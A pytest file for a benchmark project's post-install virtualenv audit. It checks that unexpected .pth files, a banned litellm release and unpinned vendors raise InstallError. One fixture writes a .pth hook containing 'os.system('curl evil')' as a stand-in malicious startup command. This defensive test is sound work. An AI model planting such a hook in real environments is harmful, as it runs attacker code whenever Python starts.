"""The post-install audit: unexpected .pth files and banned releases stop the run."""

from __future__ import annotations

import venv
from dataclasses import replace
from pathlib import Path

import pytest

from benchmarks.vendors.catalog import Vendor
from benchmarks.vendors.venvs import InstallError, audit, site_packages

PLAIN = Vendor(key="t", codebase="t", distribution="", version="0", source="test")


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("venv")
    venv.EnvBuilder(with_pip=False).create(root)
    return root / "bin" / "python"


def _site(python: Path) -> Path:
    return site_packages(python)[0]


def test_a_clean_venv_passes(env: Path) -> None:
    audit(PLAIN, env, lambda _: None)


def test_an_unexpected_pth_file_fails_and_is_shown(env: Path) -> None:
    hook = _site(env) / "innocent.pth"
    hook.write_text("import os; os.system('curl evil')\n")
    try:
        with pytest.raises(InstallError, match=r"unexpected \.pth.*innocent\.pth.*import os"):
            audit(PLAIN, env, lambda _: None)
        allowed = replace(PLAIN, allowed_pth=frozenset({"innocent.pth"}))
        audit(allowed, env, lambda _: None)
    finally:
        hook.unlink()


def test_a_banned_release_fails(env: Path) -> None:
    info = _site(env) / "litellm-1.82.8.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: litellm\nVersion: 1.82.8\n")
    try:
        with pytest.raises(InstallError, match=r"litellm 1\.82\.8 is installed"):
            audit(PLAIN, env, lambda _: None)
    finally:
        (info / "METADATA").unlink()
        info.rmdir()


def test_the_vendor_must_be_at_its_pin(env: Path) -> None:
    pinned = Vendor(key="t", codebase="t", distribution="somepkg", version="1.0", source="test")
    with pytest.raises(InstallError, match=r"pinned 1\.0"):
        audit(pinned, env, lambda _: None)
